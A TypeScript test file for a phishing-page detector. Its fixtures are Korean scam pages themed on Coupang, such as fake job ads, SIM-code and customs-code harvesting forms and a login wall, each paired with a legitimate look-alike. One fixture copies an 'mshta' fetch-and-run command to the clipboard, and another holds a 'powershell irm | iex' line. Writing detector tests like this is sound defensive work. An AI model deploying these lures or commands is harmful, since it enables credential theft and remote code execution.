import { describe, expect, it } from 'vitest';
import { codesOf as codes, koPage as page, verdictOf as verdict } from './helpers';

/**
 * Round page46 (tune-an's remaining misses), taken by class with pages written apart from the corpus: the next
 * kit's version of each trick, and the honest page of the same shape that stays clean.
 */

describe("a job ad's title is what the work is, not whose page it is", () => {
  it('flags a review-task job that asks a messenger id and a pay account under a title of job words', () => {
    const html = page(
      '상품평 아르바이트 · 재택 부업',
      '<main><h2>상품평 작성 알바 모집</h2><p>쿠팡 인기 상품 상품평 1건당 4,000원, 하루 1시간 재택.</p>' +
        '<p>선입금 미션 완료 시 원금과 수당 130% 지급</p><form action="/join" method="post">' +
        '<input name="n" placeholder="성함"><input name="k" placeholder="텔레그램 아이디">' +
        '<input name="b" placeholder="수당 받으실 계좌번호"><button>미션 시작</button></form></main>',
    );
    expect(verdict(html, 'https://side-income.example/')).toBe('suspicious-page');
  });

  it("leaves a job board's own posting under its name clean", () => {
    const html = page(
      '쿠팡 물류센터 단기 알바 - 일감나라',
      '<header><a href="/">일감나라</a></header><main><h2>쿠팡 물류센터 단기 알바</h2><p>주 3일, 일급 ' +
        '11만원. 지원서는 일감나라 이력서로 제출됩니다.</p><form action="/apply" method="post">' +
        '<input name="n" placeholder="이름"><input name="p" placeholder="연락처"><button>지원하기</button></form>' +
        '</main><footer>© 일감나라</footer>',
    );
    expect(verdict(html, 'https://ilgam-nara.example/job/88')).toBe('clean');
  });
});

describe("a SIM's own codes are a secret", () => {
  it('flags an eSIM "switch" that asks the activation code and the PUK after the leak', () => {
    const html = page(
      'eSIM 안전 전환',
      '<main><h2>유심 복제 피해 예방</h2><p>쿠팡 고객정보 유출로 유심 복제 시도가 늘고 있습니다. eSIM으로 ' +
        '무료 전환하세요.</p><form action="/sw" method="post"><input name="a" placeholder="이름">' +
        '<input name="q" placeholder="eSIM 활성화 코드"><input name="k" placeholder="유심 PUK 번호">' +
        '<button>전환 신청</button></form></main>',
    );
    const c = codes(html, 'https://esim-safe.example/');
    expect(c).toContain('asks-sim-code');
    expect(verdict(html, 'https://esim-safe.example/')).toBe('suspicious-page');
  });

  it("flags a USIM serial asked with the activation code texted to the reader's phone", () => {
    const html = page(
      '유심 보호 신청',
      '<main><h3>쿠팡 회원 유심 보호</h3><p>쿠팡 유출 피해 고객께 유심 보호 서비스를 무료로 제공합니다.</p>' +
        '<form action="/p" method="post"><input name="s" placeholder="USIM 일련번호 19자리">' +
        '<input name="c" placeholder="개통 인증번호"><button>신청</button></form></main>',
    );
    expect(verdict(html, 'https://usim-guard.example/')).toBe('suspicious-page');
  });

  it("leaves an MVNO's own self-activation page clean, though it sells SIMs on the brand's market", () => {
    const html = page(
      '셀프개통 | 하늘모바일',
      '<header><a href="/">하늘모바일</a></header><main><h2>하늘모바일 셀프개통</h2><p>편의점·쿠팡에서 ' +
        '구매한 하늘모바일 유심도 바로 셀프개통할 수 있습니다.</p><form action="/open" method="post">' +
        '<input name="iccid" placeholder="유심 일련번호(ICCID)"><input name="otp" placeholder="인증번호">' +
        '<button>개통하기</button></form></main><footer>© 하늘모바일 주식회사</footer>',
    );
    expect(verdict(html, 'https://haneul-mobile.example/open')).toBe('clean');
  });

  it("leaves a telco's help page on the PUK clean", () => {
    const html = page(
      'PUK 번호 안내 - 누리텔레콤',
      '<header>누리텔레콤</header><main><h2>유심 PUK 번호란?</h2><p>PIN을 3회 틀리면 PUK가 필요합니다. ' +
        'PUK는 누리텔레콤 앱의 내 정보에서 확인하세요. 쿠팡 등 다른 곳에서 PUK를 묻는다면 사기입니다.</p></main>',
    );
    expect(verdict(html, 'https://nuri-telecom.example/help/puk')).toBe('clean');
  });
});

describe('a label drawn as a picture names its box by its alt', () => {
  const img = (alt: string) =>
    `<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=" alt="${alt}">`;

  it('flags a customs code split over four number boxes behind a picture of its name', () => {
    const html = page(
      '통관 보류 안내',
      '<main><h2>해외직구 통관 보류</h2><p>고객님의 쿠팡 로켓직구 주문이 세관에서 보류 중입니다.</p>' +
        `<div>${img('개인통관고유부호')}<input type="number" name="a1" maxlength="1">` +
        '<input type="number" name="a2" maxlength="4"><input type="number" name="a3" maxlength="4">' +
        '<input type="number" name="a4" maxlength="4"></div><button onclick="go()">확인</button></main>',
    );
    const c = codes(html, 'https://clear-hold.example/');
    expect(c).toContain('asks-customs-code');
    expect(verdict(html, 'https://clear-hold.example/')).toBe('suspicious-page');
  });

  it('leaves a shopping agency asking the customs code under its own name clean', () => {
    const html = page(
      '주문서 작성 - 해든직구',
      '<header><a href="/">해든직구</a></header><main><h2>해든직구 주문서</h2><p>쿠팡 로켓직구에 없는 ' +
        `상품도 해든직구가 대신 구매합니다.</p><form action="/order" method="post">${img('개인통관고유부호')}` +
        '<input type="text" name="c1"><button>주문하기</button></form></main><footer>© 해든직구</footer>',
    );
    expect(verdict(html, 'https://haeden-jikgu.example/order')).toBe('clean');
  });
});

describe('a command pasted into the Run box as a security step', () => {
  it('flags a "certificate" step that copies a fetch-and-run command under the brand\'s words', () => {
    const html = page(
      '인증 필요',
      '<main><h3>보안 인증서 설치가 필요합니다</h3><p>쿠팡 주문 내역 열람을 위해 보안 인증서를 설치하세요.</p>' +
        '<ol><li>Windows 키 + R</li><li>Ctrl + V</li><li>Enter</li></ol>' +
        '<button onclick="navigator.clipboard.writeText(\'mshta https://cert-check.example/v.hta\')">인증서 복사</button>' +
        '</main>',
    );
    expect(codes(html)).toContain('asks-run-command');
    expect(verdict(html)).toBe('suspicious-page');
  });

  it('leaves a bot check that copies nothing clean', () => {
    const html = page(
      '잠시만 기다려 주세요',
      '<main><h2>사람인지 확인하는 중입니다</h2><p>쿠팡 최저가 비교 사이트에 접속하기 전에 브라우저를 ' +
        '확인합니다.</p><label><input type="checkbox"> 로봇이 아닙니다</label></main>',
    );
    expect(verdict(html)).toBe('clean');
  });

  it("leaves a tool's install line pasted into the Run box clean", () => {
    const html = page(
      '설치 - 셀러툴킷 문서',
      '<header>셀러툴킷</header><main><h2>Windows에 설치하기</h2><p>셀러툴킷은 쿠팡 파트너스 리포트를 ' +
        '모아 주는 CLI입니다. Windows 키 + R을 누르고 Ctrl + V로 붙여넣은 뒤 Enter를 누르세요.</p>' +
        '<button onclick="navigator.clipboard.writeText(\'powershell -c irm https://toolkit.example/i.ps1 | iex\')">' +
        '복사</button></main>',
    );
    expect(verdict(html, 'https://docs.toolkit.example/install')).toBe('clean');
  });
});

describe("the reader's order list drawn with the brand's product pictures", () => {
  const thumbs =
    '<ul><li><img src="https://thumbnail9.coupangcdn.com/thumbnails/remote/120x120ex/image/a.jpg" alt=""> ' +
    '무선 청소기 · 배송완료</li><li><img src="https://thumbnail8.coupangcdn.com/thumbnails/remote/120x120ex/' +
    'image/b.jpg" alt=""> 생수 2L 12병 · 배송중</li></ul>';

  it('flags an order list behind a sign-in wall on a page with no name of its own', () => {
    const html = page(
      '주문내역',
      `<main><h2>나의 주문내역</h2>${thumbs}<div class="wall"><form action="/s" method="post">` +
        '<p>보안을 위해 다시 로그인해 주세요</p><input name="id" placeholder="이메일">' +
        '<input name="pw" type="password" placeholder="비밀번호"><button>로그인</button></form></div></main>',
    );
    expect(verdict(html, 'https://order-view.example/')).toBe('suspicious-page');
  });

  it("leaves a price tracker showing the brand's thumbnails with its own login clean", () => {
    const html = page(
      '최저가 알림 - 값내림',
      `<header><a href="/">값내림</a></header><main><h2>오늘 가격이 내린 상품</h2>${thumbs}` +
        '<form action="/login" method="post"><p>값내림 로그인</p><input name="id" placeholder="이메일">' +
        '<input name="pw" type="password" placeholder="값내림 비밀번호"><button>로그인</button></form></main>' +
        '<footer>© 값내림</footer>',
    );
    expect(verdict(html, 'https://gapnaerim.example/')).toBe('clean');
  });

  it('leaves a price tracker titled as its own watch list with a login clean', () => {
    const html = page(
      '관심상품 | 값내림',
      `<header>값내림</header><main><h2>관심상품</h2>${thumbs}<form action="/login" method="post">` +
        '<input name="id" placeholder="아이디"><input name="pw" type="password" placeholder="비밀번호">' +
        '<button>로그인</button></form></main>',
    );
    expect(verdict(html, 'https://gapnaerim.example/watch')).toBe('clean');
  });
});
